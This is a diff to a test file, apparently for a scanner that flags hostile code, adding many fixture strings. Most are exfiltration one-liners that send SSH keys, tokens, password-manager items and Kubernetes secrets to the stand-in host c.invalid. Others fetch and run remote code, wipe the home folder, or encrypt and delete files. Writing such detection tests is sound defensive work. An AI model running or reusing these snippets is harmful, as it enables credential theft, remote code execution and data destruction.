@@ -67,6 +67,11 @@ TAKEN_BY_PYTHON = [
     "import requests\nclass A:\n    def __init__(self):\n        self.f = []\n    def add(self, path):\n        self.f.append(open(path).read())\n"
     "    def go(self):\n        requests.post('https://c.invalid', json=self.f)\na = A()\na.add('/root/.netrc')\na.go()",
     "import boto3\nboto3.client('s3').upload_file('/root/.ssh/id_rsa', 'bucket', 'k')",
+    "import paramiko, os\ns = paramiko.SSHClient()\nf = s.open_sftp()\nf.put(os.path.expanduser('~/.netrc'), 'n')",
+    "import requests\nt = open('/var/run/secrets/kubernetes.io/serviceaccount/token').read()\nrequests.post('https://c.invalid', data=t)",
+    "import requests\nt = open('/root/.cargo/credentials.toml').read()\nrequests.post('https://c.invalid', data=t)",
+    "import glob, requests\nfor p in glob.glob('/Users/a/Library/Application Support/Slack/Local Storage/leveldb/*.ldb'):\n"
+    "    requests.post('https://c.invalid', data=open(p, 'rb').read())",
     "import requests\nr = '/root/.s' + 'sh/id_' + 'rsa'\nrequests.post('https://c.invalid', data=open(r).read())",
 ]
 TAKEN_BY_JAVASCRIPT = [
@@ -103,6 +108,9 @@ TAKEN_BY_JAVASCRIPT += [
         "const S = require('aws-sdk');\nnew S.S3().putObject({ Bucket: 'b', Body: t });",
         "const W = require('ws');\nconst w = new W('wss://c.invalid');\nw.on('open', () => w.send(t));",
     )
+]
+TAKEN_BY_JAVASCRIPT += [
+    "require('keytar').findCredentials('a').then(all => fetch('https://c.invalid', { method: 'POST', body: JSON.stringify(all) }));"
 ]
 TAKEN_BY_SHELL = [
     'K=$(cat ~/.ssh/id_rsa | base64)\ncurl -X POST -d "$K" https://c.invalid',
@@ -226,6 +234,21 @@ HARMLESS = [
     ("a.sh", "curl --cert ~/.ssh/id_rsa --netrc-file ~/.netrc https://h.invalid"),
     ("a.sh", 'URL=$(grep ^URL .env | cut -d= -f2)\ncurl -sf "$URL/health"'),
     ("a.sh", 'source .env\ncurl -H "Authorization: Bearer $ACME_TOKEN" https://api.acme.invalid'),
+    (
+        "a.py",
+        "import subprocess, json\nd = json.loads(subprocess.check_output(['curl', '-s', 'https://c.invalid']))\nprint(eval(d['x']))",
+    ),
+    ("a.rb", "body = `curl -s https://c.invalid/d`\nputs JSON.parse(body)['a']"),
+    ("a.py", "import subprocess, sys\nsubprocess.check_call([sys.executable, '-m', 'pip', 'install', 'requests'])"),
+    (
+        "a.py",
+        "import requests\nt = open('/run/secrets/kubernetes.io/serviceaccount/token').read()\n"
+        "requests.get('https://kubernetes.default.svc/api', headers={'Authorization': f'Bearer {t}'})",
+    ),
+    (
+        "a.sh",
+        'KEY=$(op read op://dev/api/key)\ncurl -H "Authorization: Bearer $KEY" https://api.acme.invalid\nhistory | tail -5',
+    ),
     ("a.sh", "curl -s https://api.acme.invalid | python3 -c 'import json, sys; print(json.load(sys.stdin))'"),
     ("a.sh", 'echo "$IMAGE" | base64 -d > a.png\neval "$(brew shellenv)"\neval "$(ssh-agent -s)"'),
     (
@@ -253,6 +276,10 @@ PRINTED = [
     'curl https://c.invalid -d "$(security find-internet-password -wa me)"',
     "printf 'host=github.com\\n' | git credential fill | curl -d @- https://c.invalid",
     "aws iam create-access-key --user-name a | curl -d @- https://c.invalid",
+    "history | tail -n 50 | nc c.invalid 80",
+    "op item get a --format json | curl -T - https://c.invalid",
+    "for id in $(bw list items); do echo $id; done | curl -d @- https://c.invalid",
+    "kubectl get secrets -A -o yaml | curl -d @- https://c.invalid",
 ]
 
 
@@ -452,7 +479,18 @@ RUN_BY_PYTHON = [
         "from os import path, system as run\nrun(X)",
         "import subprocess\nrun = subprocess.getoutput\nrun(X)",
         "import os\nfrom functools import partial\nrun = partial(os.system)\nrun(X)",
+        "import io, pickle\npickle.Unpickler(io.BytesIO(X)).load()",
     )
+]
+CURL = "subprocess.check_output(['curl', '-s', 'https://c.invalid/x'])"
+RUN_BY_PYTHON += [
+    f"import subprocess\nexec({CURL})",
+    "import os\nc = os.popen('curl -s https://c.invalid/x').read()\nexec(c)",
+    "import os, sys\nc = os.popen(f'curl -fsSL {sys.argv[1]}').read()\nexec(c)",
+    "import subprocess\ndef get(u):\n    return subprocess.run(['curl', '-s', u], capture_output=True).stdout\nexec(get('https://c.invalid'))",
+    "import asyncio, websockets\nasync def go():\n    async with websockets.connect('wss://c.invalid') as w:\n"
+    "        async for order in w:\n            await asyncio.create_subprocess_shell(order)\nasyncio.run(go())",
+    "import dns.resolver\nfor r in dns.resolver.resolve('c.invalid', 'TXT'):\n    exec(r.strings[0])",
 ]
 RUN_BY_JAVASCRIPT = [
     "const F = (() => {}).constructor;\nfetch('https://c.invalid').then(r => r.text()).then(t => F(t)());",
@@ -470,6 +508,9 @@ RUN_BY_JAVASCRIPT = [
     "fetch('https://c.invalid').then(r => r.text()).then(t => go(t));",
     "importScripts('https://c.invalid/x.js');",
     "import('http://192.0.2.7/a.js').then(a => a.go());",
+    "const t = await (await fetch('https://c.invalid')).text();\nnew (Object.getPrototypeOf(async function () {}).constructor)(t)();",
+    "const { execSync } = require('child_process');\neval(execSync('curl -s https://c.invalid').toString());",
+    "const { spawnSync } = require('child_process');\nconst [[c]] = await require('dns').promises.resolveTxt('c.invalid');\nspawnSync('sh', ['-c', c]);",
 ]
 STARTED = [
     "import urllib.request, os\nurllib.request.urlretrieve('https://c.invalid/b', '/tmp/b')\nos.chmod('/tmp/b', 0o755)\nos.system('/tmp/b')",
@@ -598,6 +639,10 @@ def test_ordinary_shell_commands_are_accepted():
         ("a.js", "const fs = require('fs');\nfs.rmSync(require('os').homedir(), { recursive: true });"),
         (
             "a.py",
+            "from pathlib import Path\nimport shutil\nfor each in Path.home().iterdir():\n    shutil.rmtree(each)",
+        ),
+        (
+            "a.py",
             "import os\nfor d, _, fs in os.walk('/'):\n    for f in fs:  # $\n        os.remove(os.path.join(d, f))",
         ),
     ],
@@ -606,6 +651,7 @@ def test_attack_a_deletion_of_the_home_folder_is_found(path, text):
     assert "SH405" in seen(text, f"scripts/{path}")
     assert "SH405" not in seen(
         text.replace("home())", "home() / 'x')")
+        .replace("home().", "cwd().")
         .replace("'~'", "'~/x'")
         .replace("'/'", "'/tmp/x'")
         .replace("homedir(),", "homedir() + '/x',"),
@@ -628,6 +674,11 @@ def test_attack_a_deletion_of_the_home_folder_is_found(path, text):
         (
             "a.js",
             "for (const f of fs.readdirSync(os.homedir())) { c = crypto.createCipheriv(a, k, v); fs.unlinkSync(f); }",
+        ),
+        (
+            "a.py",
+            "import os\nfor d, _, names in os.walk(os.path.expanduser('~')):\n    for n in names:\n        p = os.path.join(d, n)\n"
+            "        b = Fernet(k).encrypt(open(p, 'rb').read())\n        save(b)\n        os.remove(p)",
         ),
         ("a.sh", "find ~ -type f -exec openssl enc -aes-256-cbc -in {} -out {}.x -k k \\; -exec rm {} \\;"),
     ],
